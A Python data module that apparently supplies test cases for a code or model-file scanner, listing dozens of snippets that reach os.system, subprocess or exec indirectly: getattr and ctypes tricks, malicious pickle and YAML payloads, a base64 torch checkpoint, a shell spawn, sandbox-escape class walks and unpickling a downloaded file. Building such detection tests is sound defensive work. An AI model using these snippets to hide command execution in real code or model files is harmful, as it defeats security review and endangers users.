"""Sources that reach a function by another way than its name."""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

__all__ = ["CALLS"]

# What it calls.
CALLS: dict[str, tuple[str, str]] = {
    "dictionary-of-functions": (
        "a table of functions",
        "import os\nTABLE = {'a': print, 'b': os.system}\nTABLE['b']('echo assay')\n",
    ),
    "dictionary-get": (
        "get() of a table",
        "import os\nTABLE = {'b': os.system}\nTABLE.get('b', print)('echo assay')\n",
    ),
    "list-of-functions": (
        "a list of functions",
        "import os\n[print, os.system][1]('echo assay')\n",
    ),
    "named-tuple": (
        "a namespace of functions",
        (
            "import os, types\ntool = types.SimpleNamespace(run=os.system)\n"
            "tool.run('echo assay')\n"
        ),
    ),
    "attribute-chain": (
        "os by way of another module",
        "import logging\nlogging.os.system('echo assay')\n",
    ),
    "attribute-chain-sys": (
        "sys by way of another module",
        "import warnings\nwarnings.sys.modules['os'].system('echo assay')\n",
    ),
    "torch-os": (
        "os by way of torch",
        "import torch\ntorch.serialization.os.popen('echo assay')\n",
    ),
    "subprocess-alias-deep": (
        "subprocess by way of a library",
        "import torch.utils.collect_env as tools\ntools.subprocess.run(['echo', 'assay'])\n",
    ),
    "class-attribute": (
        "an attribute of a class",
        "import os\n\nclass Tool:\n    run = os.system\n\nTool.run('echo assay')\n",
    ),
    "instance-attribute": (
        "an attribute of an object",
        (
            "import os\n\nclass Tool:\n    def __init__(self):\n        self.run = os.system\n\n"
            "Tool().run('echo assay')\n"
        ),
    ),
    "setattr-alias": (
        "an attribute that is set by name",
        (
            "import os\n\nclass Tool:\n    pass\n\nsetattr(Tool, 'run', os.system)\n"
            "Tool.run('echo assay')\n"
        ),
    ),
    "globals-alias": (
        "a global that is set by name",
        "import os\nglobals()['run'] = os.system\nrun('echo assay')\n",
    ),
    "returned-function": (
        "a function that gives a function",
        "import os\n\ndef tool():\n    return os.system\n\ntool()('echo assay')\n",
    ),
    "getattr-default": (
        "getattr with a default",
        "import os\ngetattr(os, 'none', os.system)('echo assay')\n",
    ),
    "getattr-loop": (
        "getattr in a loop",
        (
            "import os\ntool = os\nfor name in ['system']:\n    tool = getattr(tool, name)\n"
            "tool('echo assay')\n"
        ),
    ),
    "getattr-dunder": (
        "__getattribute__ of a module",
        "import os\nos.__getattribute__('system')('echo assay')\n",
    ),
    "object-getattribute": (
        "object.__getattribute__",
        "import os\nobject.__getattribute__(os, 'system')('echo assay')\n",
    ),
    "dict-get": (
        "get() of a module's dictionary",
        "import os\nos.__dict__.get('system')('echo assay')\n",
    ),
    "dir-index": (
        "a name found among all",
        (
            "import os\nname = [n for n in dir(os) if n.startswith('sys')][0]\n"
            "getattr(os, name)('echo assay')\n"
        ),
    ),
    "inspect-members": (
        "members of a module",
        "import inspect, os\ndict(inspect.getmembers(os))['system']('echo assay')\n",
    ),
    "dunder-call": (
        "__call__ of a function",
        "import os\nos.system.__call__('echo assay')\n",
    ),
    "star-arguments": (
        "arguments from a list",
        "import subprocess\nsubprocess.run(*[['echo', 'assay']])\n",
    ),
    "import-as-keyword": (
        "__import__ with keywords",
        "__import__(name='os').system('echo assay')\n",
    ),
    "importlib-util": (
        "a module from its spec",
        (
            "import importlib.util\nspec = importlib.util.find_spec('os')\n"
            "tool = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(tool)\n"
            "tool.system('echo assay')\n"
        ),
    ),
    "source-loader": (
        "a loader of sources",
        (
            "import importlib.machinery\n"
            "importlib.machinery.SourceFileLoader('x', 'weights.bin').load_module()\n"
        ),
    ),
    "zipimport": (
        "a module from an archive",
        "import zipimport\nzipimport.zipimporter('model.zip').load_module('payload')\n",
    ),
    "sys-path-archive": (
        "an archive on the path",
        "import sys\nsys.path.insert(0, 'model.zip')\nimport payload\n",
    ),
    "site-directory": (
        "a directory with .pth files",
        "import site\nsite.addsitedir('/tmp/assay')\n",
    ),
    "pkgutil-resolve": (
        "a name that pkgutil resolves",
        "import pkgutil\npkgutil.resolve_name('os:system')('echo assay')\n",
    ),
    "pydoc-locate": (
        "a name that pydoc locates",
        "import pydoc\npydoc.locate('os.system')('echo assay')\n",
    ),
    "function-type": (
        "a function made of code",
        (
            "import types\ncode = compile('print(1)', 'x', 'exec')\n"
            "types.FunctionType(code, globals())()\n"
        ),
    ),
    "type-of-function": (
        "the type of a function",
        "code = compile('print(1)', 'x', 'exec')\ntype(lambda: 0)(code, globals())()\n",
    ),
    "code-replace": (
        "the code of a function exchanged",
        (
            "def plain():\n    return 1\n\nplain.__code__ = compile('print(1)', 'x', 'exec')\nplain()\n"
        ),
    ),
    "codeop": (
        "codeop",
        "import codeop\nexec(codeop.compile_command('print(1)'))\n",
    ),
    "interactive": (
        "an interpreter of its own",
        (
            "import code\ncode.InteractiveInterpreter().runsource(\"import os; os.system('echo assay')\")\n"
        ),
    ),
    "runpy-module": (
        "runs a module",
        "import runpy\nrunpy.run_module('antigravity')\n",
    ),
    "ctypes-pythonapi": (
        "Python's own library",
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('echo assay')\")\n",
    ),
    "ctypes-util": (
        "a library that is found",
        "import ctypes, ctypes.util\nctypes.cdll.LoadLibrary(ctypes.util.find_library('c')).system(b'echo assay')\n",
    ),
    "ctypes-attribute": (
        "a library as an attribute",
        "import ctypes\nctypes.cdll['libc.so.6'].system(b'echo assay')\n",
    ),
    "cffi": (
        "cffi",
        (
            "from cffi import FFI\nffi = FFI()\nffi.cdef('int system(const char *);')\n"
            "ffi.dlopen(None).system(b'echo assay')\n"
        ),
    ),
    "pty-spawn": ("a terminal", "import pty\npty.spawn('/bin/sh')\n"),
    "posix": ("the module behind os", "import posix\nposix.system('echo assay')\n"),
    "posix-subprocess": (
        "the module behind subprocess",
        (
            "import _posixsubprocess, os\n"
            "_posixsubprocess.fork_exec([b'/bin/echo'], [b'/bin/echo'], True, (), None, None, -1, -1, -1, -1, -1, -1, 1, 2, False, False, 0, None, None, None, -1, None, False)\n"
        ),
    ),
    "exec-async": (
        "a process by way of asyncio",
        (
            "import asyncio\n\nasync def go():\n"
            "    await asyncio.create_subprocess_exec('echo', 'assay')\n\n"
            "asyncio.get_event_loop().run_until_complete(go())\n"
        ),
    ),
    "torch-multiprocessing": (
        "processes of torch",
        (
            "import os\nimport torch.multiprocessing as mp\n\ndef work(rank):\n"
            "    os.system('echo assay')\n\nmp.spawn(work, nprocs=1)\n"
        ),
    ),
    "string-getoutput": (
        "the output of a command",
        "from subprocess import getoutput as shape\nshape('echo assay')\n",
    ),
    "pandas-eval": (
        "pandas that runs text",
        "import pandas as pd\npd.eval(\"@__import__('os').system('echo assay')\")\n",
    ),
    "sympy": (
        "sympy that runs text",
        "import sympy\nsympy.sympify(\"__import__('os').system('echo assay')\")\n",
    ),
    "numpy-f2py": (
        "a compiler of numpy",
        "import numpy.f2py\nnumpy.f2py.compile('end', extra_args='--version')\n",
    ),
    "template-code": (
        "Jinja that walks",
        (
            "from jinja2 import Template\n"
            "Template(\"{{ ''.__class__.__mro__[1].__subclasses__() }}\").render()\n"
        ),
    ),
    "pickle-literal-bytes": (
        "a pickle in bytes",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'echo assay'\\ntR.\")\n",
    ),
    "pickle-io": (
        "a pickle in a stream",
        "import io, pickle\npickle.Unpickler(io.BytesIO(b\"cos\\nsystem\\n(S'echo assay'\\ntR.\")).load()\n",
    ),
    "torch-load-literal": (
        "a checkpoint in bytes",
        (
            "import base64, io, torch\n"
            "torch.load(io.BytesIO(base64.b64decode('Y29zCnN5c3RlbQooUydlY2hvIGFzc2F5Jwp0Ui4=')), weights_only=False)\n"
        ),
    ),
    "pickle-downloaded": (
        "a pickle from a stranger",
        (
            "import pickle, urllib.request\n"
            "TABLE = pickle.loads(urllib.request.urlopen('https://assay.invalid/t.pkl').read())\n"
        ),
    ),
    "yaml-apply": (
        "a tag that calls",
        "import yaml\nyaml.load(\"!!python/object/apply:os.system ['echo assay']\", Loader=yaml.Loader)\n",
    ),
    "exec-file": (
        "a file of the release that is run",
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'weights.txt')).read())\n",
    ),
    "exec-docstring": (
        "a docstring that is run",
        'def note():\n    """__import__(\'os\').system(\'echo assay\')"""\n\nexec(note.__doc__)\n',
    ),
    "exec-config": (
        "a configuration that is run",
        "import json\neval(json.load(open('config.json'))['activation'])\n",
    ),
    "exec-methods": (
        "exec by way of its own name",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')('print(1)')\n",
    ),
    "exec-alias": (
        "exec under another name",
        "run = exec\nrun('print(1)')\n",
    ),
    "eval-map": (
        "eval handed to map",
        "list(map(eval, [\"__import__('os').system('echo assay')\"]))\n",
    ),
    "exec-dictionary": (
        "exec out of a dictionary",
        "__builtins__.__dict__['exec']('print(1)')\n",
    ),
    "self-walk": (
        "builtins by way of a function",
        "print.__self__.exec('print(1)')\n",
    ),
    "loader-walk": (
        "modules by way of a loader",
        "__loader__.load_module('os').system('echo assay')\n",
    ),
    "spec-walk": (
        "modules by way of a spec",
        "__spec__.loader.load_module('posix').system('echo assay')\n",
    ),
    "builtin-importer": (
        "an importer found among classes",
        (
            "kinds = {k.__name__: k for k in object.__subclasses__()}\n"
            "kinds['BuiltinImporter'].load_module('posix').system('echo assay')\n"
        ),
    ),
    "frame-walk": (
        "modules by way of a frame",
        "import sys\nsys._getframe().f_builtins['exec']('print(1)')\n",
    ),
    "global-walk": (
        "modules by way of a function's globals",
        "import random\nrandom.shuffle.__func__.__globals__['_os'].system('echo assay')\n",
    ),
    "warnings-walk": (
        "the well-known walk",
        (
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()"
            "._module.__builtins__['__import__']('os').system('echo assay')\n"
        ),
    ),
}
